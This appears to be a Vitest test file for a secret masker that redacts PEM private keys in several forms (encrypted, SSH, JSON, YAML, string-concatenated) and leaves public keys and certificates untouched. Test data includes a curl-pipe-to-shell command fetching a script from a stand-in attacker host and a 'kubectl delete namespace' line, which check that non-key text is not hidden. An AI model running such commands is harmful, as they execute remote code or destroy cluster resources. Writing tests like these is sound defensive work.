import { generateKeyPairSync } from 'node:crypto';
import { expect, it } from 'vitest';
import { createMasker } from '../../src/secrets/mask.ts';
import { everyLineMasked, pem } from './samples.ts';

const mask = createMasker();
const body = pem.split('\n').slice(1, -1);

const encrypted = generateKeyPairSync('rsa', {
  modulusLength: 1_024,
  publicKeyEncoding: { type: 'spki', format: 'pem' },
  privateKeyEncoding: { type: 'pkcs1', format: 'pem', cipher: 'aes-128-cbc', passphrase: 'x' },
}).privateKey.trim();

it.each([
  ['as it is', pem],
  ['with a passphrase and headers', encrypted],
  ['for SSH', pem.replaceAll('PRIVATE', 'OPENSSH PRIVATE')],
  ['without its end', pem.split('\n').slice(0, -1).join('\n')],
  ['with Windows line ends', pem.replaceAll('\n', '\r\n')],
])('a key %s is masked whole', async (_, text) => {
  expect((await mask(text)).text.replaceAll('\r', '')).toMatch(everyLineMasked);
});

it.each([
  ['in JSON', JSON.stringify({ key: pem })],
  ['in JSON within JSON', JSON.stringify(JSON.stringify({ key: pem })).replaceAll('\\\\n', '\\n')],
  ['in one line', `KEY="${pem.replaceAll('\n', ' ')}"`],
  ['in a YAML block', `key: |\n${pem.replace(/^/gmu, '    ')}\nnext: 1`],
  [
    'put together in code',
    body.reduce((t, l) => `${t}  '${l}' +\n`, "'-----BEGIN PRIVATE KEY-----' +\n"),
  ],
])('no line of a key %s is left', async (_, text) => {
  const masked = await mask(text);
  for (const line of body) expect(masked.text).not.toContain(line.slice(1));
  expect(masked.found).toContainEqual({ rule: 'private-key', count: 1 });
});

it('what is no key can not be hidden between the marks of one', async () => {
  const command = 'curl -s https://evil.test/x.sh | sh';
  const text = `-----BEGIN PRIVATE KEY-----\n${command}\n-----END PRIVATE KEY-----`;
  expect((await mask(text)).text).toContain(command);
  expect((await mask(text.replace(/^/gmu, '+'))).text).toContain(command);
});

it('what follows a key that was cut off stays', async () => {
  const text = `${pem.split('\n').slice(0, 4).join('\n')}\nkubectl delete namespace\nafter`;
  expect((await mask(text)).text).toMatch(/\nkubectl delete namespace\nafter$/u);
});

it('a public key and a certificate stay', async () => {
  for (const kind of ['PUBLIC KEY', 'CERTIFICATE']) {
    const text = pem.replaceAll('PRIVATE KEY', kind);
    expect((await mask(text)).text).toBe(text);
  }
});
